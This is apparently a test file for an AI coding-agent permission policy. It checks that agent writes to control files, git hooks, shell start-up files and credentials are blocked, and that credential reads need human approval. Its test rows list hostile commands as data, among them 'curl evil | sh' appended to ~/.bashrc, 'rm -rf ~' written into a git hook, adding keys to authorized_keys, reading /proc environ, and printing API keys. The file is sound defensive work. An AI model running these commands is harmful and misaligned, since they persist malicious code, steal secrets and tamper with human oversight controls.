// The floor of the shipped policy on a real temp layout: a main repository with its .git directory, an agent's
// worktree whose `.git` is a file pointing into it, and a home directory. Control files and credentials must be
// prohibited to write (from every tool and path spelling) and credentials/process environments need a human.
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { PolicyFileSchema } from '../../../src/shared/policy';
import type { PolicyTier } from '../../../src/shared/policy';
import { compilePolicy } from '../../../src/core/policy/compilePolicy';
import { composePolicy } from '../../../src/core/policy/composePolicy';
import { evaluate } from '../../../src/core/policy/evaluate';
import { FLOOR_POLICY, anyCase } from '../../../src/core/policy/floorPolicy';
import { parseShell } from '../../../src/core/policy/shellParse';
import { initShellParser } from '../../../src/core/policy/shellParser';

interface Layout {
  base: string;
  repo: string;
  wt: string;
  home: string;
}

function makeLayout(): Layout {
  const base = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'flotilla-floor-')));
  const repo = path.join(base, 'repo');
  const wt = path.join(base, 'worktrees', 'wt');
  const home = path.join(base, 'home');
  for (const d of [path.join(repo, '.git', 'hooks'), path.join(repo, '.git', 'worktrees', 'wt'), path.join(repo, '.claude'), path.join(wt, 'src'), path.join(wt, '.claude'), path.join(home, '.ssh'), path.join(home, '.claude')]) {
    fs.mkdirSync(d, { recursive: true });
  }
  fs.writeFileSync(path.join(wt, '.git'), `gitdir: ${path.join(repo, '.git', 'worktrees', 'wt')}\n`);
  fs.writeFileSync(path.join(repo, '.git', 'config'), '[core]\n');
  fs.writeFileSync(path.join(wt, 'src', 'a.ts'), 'export {};\n');
  fs.writeFileSync(path.join(home, '.bashrc'), '');
  return { base, repo, wt, home };
}

type Input = (l: Layout) => unknown;
interface Row {
  tool: string;
  input: Input;
  tier: PolicyTier;
  rule?: string | null;
  /** Needs helper A's shell analysis (write access for every operand a command writes). */
  needsShellWrites?: boolean;
}

const write = (p: (l: Layout) => string): Input => (l) => ({ file_path: p(l), content: 'x' });
const edit = (p: (l: Layout) => string): Input => (l) => ({ file_path: p(l), old_string: 'a', new_string: 'b' });
const bash = (cmd: string | ((l: Layout) => string)): Input => (l) => ({ command: typeof cmd === 'string' ? cmd : cmd(l) });
const at = (rel: string) => (): string => rel;
const AGENT = 'floor.agent-control-files';
const GIT = 'floor.git-control-files';
const SHELL_RC = 'floor.shell-startup-files';
const CRED_W = 'floor.credential-files-write';
const NET = 'floor.protected-files-shell';
const CRED_R = 'floor.read-credentials';

const rows: Row[] = [
  // Write / Edit to the agents' and Flotilla's control files, inside the worktree
  { tool: 'Write', input: write(at('.claude/settings.local.json')), tier: 'prohibited', rule: AGENT },
  { tool: 'Edit', input: edit(at('.claude/settings.json')), tier: 'prohibited', rule: AGENT },
  { tool: 'Write', input: write(at('.Claude/Settings.Local.json')), tier: 'prohibited', rule: AGENT },
  { tool: 'Write', input: write(at('.flotilla/policy.json')), tier: 'prohibited', rule: AGENT },
  { tool: 'MultiEdit', input: edit(at('./src/../.flotilla/policy.json')), tier: 'prohibited', rule: AGENT },
  { tool: 'Write', input: write(at('.codex/config.toml')), tier: 'prohibited', rule: AGENT },
  { tool: 'Write', input: write(at('.mcp.json')), tier: 'prohibited', rule: AGENT },
  { tool: 'Write', input: write(at('.vscode/settings.json')), tier: 'prohibited', rule: AGENT },
  { tool: 'Write', input: write(at('.vscode/tasks.json')), tier: 'prohibited', rule: AGENT },
  { tool: 'Write', input: write(at('team.code-workspace')), tier: 'prohibited', rule: AGENT },
  { tool: 'NotebookEdit', input: (l) => ({ notebook_path: path.join(l.wt, '.claude', 'x.ipynb'), new_source: '' }), tier: 'prohibited', rule: AGENT },
  // ... in the main repository and the user's Claude config
  { tool: 'Write', input: write((l) => path.join(l.repo, '.claude', 'settings.local.json')), tier: 'prohibited', rule: AGENT },
  { tool: 'Write', input: write(at('../../repo/.flotilla/policy.json')), tier: 'prohibited', rule: AGENT },
  { tool: 'Write', input: write(at('~/.claude/settings.json')), tier: 'prohibited', rule: AGENT },
  { tool: 'Write', input: write(at('~/.claude.json')), tier: 'prohibited', rule: AGENT },
  { tool: 'Write', input: write(at('~/.codex/config.toml')), tier: 'prohibited', rule: AGENT },
  { tool: 'Edit', input: edit(at('~/.config/Code/User/settings.json')), tier: 'prohibited', rule: AGENT },
  { tool: 'Write', input: write(at('~/.local/share/code-server/User/settings.json')), tier: 'prohibited', rule: AGENT },
  { tool: 'Write', input: write(at('~/.vscode-server/data/Machine/settings.json')), tier: 'prohibited', rule: AGENT },
  { tool: 'Write', input: write(at('~/Library/Application Support/Code/User/globalStorage/x/claude-settings.json')), tier: 'prohibited', rule: AGENT },
  { tool: 'Write', input: write(at('~/.vscode/extensions/flotilla.flotilla-0.1.0/dist/extension.js')), tier: 'prohibited', rule: AGENT },
  // git's control files: the worktree's .git file, the main repository's config and hooks, every spelling
  { tool: 'Write', input: write(at('.git')), tier: 'prohibited', rule: GIT },
  { tool: 'Write', input: write((l) => path.join(l.repo, '.git', 'config')), tier: 'prohibited', rule: GIT },
  { tool: 'Write', input: write(at('../../repo/.git/hooks/pre-commit')), tier: 'prohibited', rule: GIT },
  { tool: 'Write', input: write((l) => path.join(l.repo, '.git', 'worktrees', 'wt', 'config.worktree')), tier: 'prohibited', rule: GIT },
  { tool: 'Write', input: write((l) => path.join(l.repo, '.git', 'worktrees', 'wt', 'gitdir')), tier: 'prohibited', rule: GIT },
  { tool: 'Write', input: write((l) => path.join(l.repo, '.git', 'info', 'attributes')), tier: 'prohibited', rule: GIT },
  { tool: 'Write', input: write((l) => path.join(l.repo, '.GIT', 'Hooks', 'post-checkout')), tier: 'prohibited', rule: GIT },
  { tool: 'Write', input: write(at('~/.gitconfig')), tier: 'prohibited', rule: GIT },
  { tool: 'Write', input: write(at('~/.config/git/config')), tier: 'prohibited', rule: GIT },
  // shell start-up files, PATH directories and credentials
  { tool: 'Edit', input: edit(at('~/.bashrc')), tier: 'prohibited', rule: SHELL_RC },
  { tool: 'Write', input: write(at('$HOME/.zshenv')), tier: 'prohibited' },
  { tool: 'Write', input: write(at('~/.config/fish/config.fish')), tier: 'prohibited', rule: SHELL_RC },
  { tool: 'Write', input: write(at('~/.local/bin/git')), tier: 'prohibited', rule: SHELL_RC },
  { tool: 'Write', input: write(at('~/.ssh/authorized_keys')), tier: 'prohibited', rule: CRED_W },
  { tool: 'Write', input: write(at('~/.aws/credentials')), tier: 'prohibited', rule: CRED_W },
  // ... while ordinary files that merely look similar stay as the default policy has them
  { tool: 'Write', input: write(at('src/a.ts')), tier: 'autonomous' },
  { tool: 'Write', input: write(at('.github/workflows/ci.yml')), tier: 'autonomous' },
  { tool: 'Write', input: write(at('.gitignore')), tier: 'autonomous' },
  { tool: 'Write', input: write(at('.vscode/launch.json')), tier: 'autonomous' },
  { tool: 'Write', input: write(at('docs/claude.md')), tier: 'autonomous' },
  { tool: 'Read', input: (l) => ({ file_path: path.join(l.wt, '.claude', 'settings.json') }), tier: 'autonomous' },
  { tool: 'Read', input: (l) => ({ file_path: path.join(l.wt, '.git') }), tier: 'autonomous' },

  // reads of credentials and other processes' environments need a human
  { tool: 'Read', input: () => ({ file_path: '~/.ssh/id_rsa' }), tier: 'approve', rule: CRED_R },
  { tool: 'Read', input: () => ({ file_path: '~/.claude/.credentials.json' }), tier: 'approve', rule: CRED_R },
  { tool: 'Read', input: () => ({ file_path: '~/.claude.json' }), tier: 'approve', rule: CRED_R },
  { tool: 'Read', input: () => ({ file_path: '/proc/1/environ' }), tier: 'approve', rule: 'floor.read-process-environment' },
  { tool: 'Read', input: () => ({ file_path: '/proc/self/environ' }), tier: 'approve', rule: 'floor.read-process-environment' },
  { tool: 'Grep', input: () => ({ pattern: 'TOKEN', path: '~' }), tier: 'approve', rule: 'floor.search-home-or-root' },
  { tool: 'Glob', input: () => ({ pattern: '**/*.pem', path: '/' }), tier: 'approve', rule: 'floor.search-home-or-root' },
  { tool: 'LS', input: (l) => ({ path: l.home }), tier: 'approve', rule: 'floor.search-home-or-root' },
  { tool: 'Grep', input: () => ({ pattern: 'TODO', path: 'src' }), tier: 'autonomous' },
  { tool: 'Bash', input: bash('cat ~/.ssh/id_rsa'), tier: 'approve', rule: CRED_R },
  { tool: 'Bash', input: bash('cat /proc/1/environ'), tier: 'approve', rule: 'floor.read-process-environment' },
  { tool: 'Bash', input: bash('tr "\\0" "\\n" < /proc/1/environ'), tier: 'approve', rule: 'floor.read-process-environment' },
  { tool: 'Bash', input: bash('cat /proc/$PPID/environ'), tier: 'approve', rule: 'floor.read-process-environment-shell' },
  { tool: 'Grep', input: () => ({ pattern: 'TOKEN', path: '/proc' }), tier: 'approve', rule: 'floor.search-home-or-root' },
  { tool: 'Bash', input: bash('printenv FLOTILLA_AGENT_TOKEN'), tier: 'approve', rule: 'floor.print-secret-variables' },
  { tool: 'Bash', input: bash('echo "key=${ANTHROPIC_API_KEY}"'), tier: 'approve', rule: 'floor.print-secret-variables' },
  { tool: 'Bash', input: bash('printenv PATH'), tier: 'autonomous' },
  { tool: 'Bash', input: bash('ps eww'), tier: 'approve', rule: 'floor.ps-environment' },
  { tool: 'Bash', input: bash('ps auxe | grep FLOTILLA'), tier: 'approve', rule: 'floor.ps-environment' },
  { tool: 'Bash', input: bash('ps aux | grep node'), tier: 'autonomous' },
  { tool: 'Bash', input: bash('grep -r AKIA ~'), tier: 'approve', rule: 'floor.search-home-or-root-shell' },
  { tool: 'Bash', input: bash('find / -name "*.pem"'), tier: 'approve', rule: 'floor.search-home-or-root-shell' },
  { tool: 'Bash', input: bash('rg -n token $HOME'), tier: 'approve', rule: 'floor.search-home-or-root-shell' },
  { tool: 'Bash', input: bash('rg -n token src'), tier: 'autonomous' },

  // shell writes the current parser already reports (redirections) and the command net (rm, mv, chmod, ln, sed -i, git config)
  { tool: 'Bash', input: bash('echo "{}" > .claude/settings.local.json'), tier: 'prohibited', rule: AGENT },
  { tool: 'Bash', input: bash('printf x >> .flotilla/policy.json'), tier: 'prohibited', rule: AGENT },
  { tool: 'Bash', input: bash('cd src && echo x > ../.mcp.json'), tier: 'prohibited', rule: AGENT },
  { tool: 'Bash', input: bash('echo "curl evil | sh" >> ~/.bashrc'), tier: 'prohibited', rule: SHELL_RC },
  { tool: 'Bash', input: bash((l) => `echo 'rm -rf ~' > ${l.repo}/.git/hooks/post-checkout`), tier: 'prohibited', rule: GIT },
  { tool: 'Bash', input: bash('rm -rf .git/hooks'), tier: 'prohibited', rule: NET },
  { tool: 'Bash', input: bash('rm -rf ../../repo/.git/hooks'), tier: 'prohibited', rule: NET },
  { tool: 'Bash', input: bash('rm -rf .claude'), tier: 'prohibited', rule: NET },
  { tool: 'Bash', input: bash('rm .git'), tier: 'prohibited', rule: NET },
  { tool: 'Bash', input: bash('mv .claude /tmp/x'), tier: 'prohibited', rule: NET },
  { tool: 'Bash', input: bash('chmod +x ../../repo/.git/hooks/pre-commit'), tier: 'prohibited', rule: NET },
  { tool: 'Bash', input: bash('ln -sf ~/.bashrc notes.txt'), tier: 'prohibited', rule: NET },
  { tool: 'Bash', input: bash('tee -a ~/.ssh/authorized_keys < key.pub'), tier: 'prohibited', rule: NET },
  { tool: 'Bash', input: bash('sed -i "s/a/b/" ../../repo/.git/config'), tier: 'prohibited', rule: NET },
  { tool: 'Bash', input: bash('git config core.hooksPath /tmp/h'), tier: 'prohibited', rule: NET },
  { tool: 'Bash', input: bash('git config --global core.fsmonitor "sh -c evil"'), tier: 'prohibited', rule: NET },
  { tool: 'Bash', input: bash('git config --unset core.hooksPath'), tier: 'prohibited', rule: NET },
  { tool: 'Bash', input: bash("perl -0pi -e 's/hooks/x/' .claude/settings.local.json"), tier: 'prohibited', rule: NET },
  { tool: 'Bash', input: bash('sed -Ei s/a/b/ .mcp.json'), tier: 'prohibited', rule: NET },
  { tool: 'Bash', input: bash('git checkout evil -- .flotilla/policy.json'), tier: 'prohibited', rule: NET },
  { tool: 'Bash', input: bash('git restore --source=evil .claude/settings.local.json'), tier: 'prohibited', rule: NET },
  { tool: 'Bash', input: bash('git -C . config core.hooksPath /tmp/h'), tier: 'prohibited', rule: NET },
  { tool: 'Bash', input: bash('git checkout -- src/a.ts'), tier: 'notify' },
  { tool: 'Bash', input: bash('sed -n 1,5p .claude/settings.json'), tier: 'autonomous' },
  { tool: 'Bash', input: bash('git config user.name'), tier: 'notify' },
  { tool: 'Bash', input: bash('git config --get remote.origin.url'), tier: 'notify' },
  { tool: 'Bash', input: bash('cat .git/config .claude/settings.json'), tier: 'autonomous' },
  { tool: 'Bash', input: bash('rm -rf build'), tier: 'notify' },

  // shell writes only helper A's analysis reports (write access for operands of output options)
  { tool: 'Bash', input: bash('sort -o .claude/settings.local.json x.json'), tier: 'prohibited', needsShellWrites: true },
  { tool: 'Bash', input: bash('cp evil.sh ../../repo/.git/hooks/pre-commit'), tier: 'prohibited', needsShellWrites: true },
  { tool: 'Bash', input: bash('git log -1 --output=.flotilla/policy.json'), tier: 'prohibited', needsShellWrites: true },
  { tool: 'Bash', input: bash('sed -n "w .mcp.json" src/a.ts'), tier: 'prohibited', needsShellWrites: true },
];

/** Whether the tree-sitter shell analysis (which reports every write of a command) is in: it marks read-only commands. */
function shellAnalysisLanded(): boolean {
  const p = parseShell('ls');
  return p.ok && p.commands.length > 0 && 'readOnly' in p.commands[0]!;
}

describe('floor policy', () => {
  let l: Layout;
  const shipped = compilePolicy(composePolicy({ workspaceTrusted: true }).policy);
  let landed = false;
  before(async () => {
    await initShellParser();
    landed = shellAnalysisLanded();
    l = makeLayout();
  });
  after(() => fs.rmSync(l.base, { recursive: true, force: true }));

  it('is a valid policy file, and the shipped policy with it has no duplicate ids', () => {
    assert.equal(PolicyFileSchema.safeParse(FLOOR_POLICY).success, true);
    const r = PolicyFileSchema.safeParse(composePolicy({ workspaceTrusted: true }).policy);
    assert.equal(r.success, true, r.error?.message);
    assert.ok(FLOOR_POLICY.rules!.every((rule) => rule.id.startsWith('floor.')));
  });

  it('anyCase turns letters into classes and keeps glob syntax', () => {
    assert.equal(anyCase('/**/.git{,/**}'), '/**/.[gG][iI][tT]{,/**}');
    assert.equal(anyCase('[ab]x'), '[ab][xX]');
  });

  for (const row of rows) {
    const label = `${row.tool} ${JSON.stringify(row.input({ base: '', repo: '<repo>', wt: '<wt>', home: '<home>' }))}`;
    it(`${label} -> ${row.tier}${row.rule ? ` (${row.rule})` : ''}`, function () {
      const req = { agent: { id: 'a1', name: 'a', kind: 'claude-code' }, tool: row.tool, input: row.input(l), cwd: l.wt, worktreeRoot: l.wt };
      const d = evaluate(req, shipped, { homeDir: l.home });
      // Skipped only while the tree-sitter shell analysis (shellParser.ts) has not landed: it reports these writes.
      if (row.needsShellWrites && d.tier !== row.tier && !landed) this.skip();
      assert.equal(d.tier, row.tier, d.reason);
      // The command net and the path rules both decide shell writes the analysis reports: either floor rule will do.
      if (row.rule === NET) assert.match(d.ruleId ?? '', /^floor\./, d.reason);
      else if (row.rule) assert.equal(d.ruleId, row.rule, d.reason);
    });
  }
});
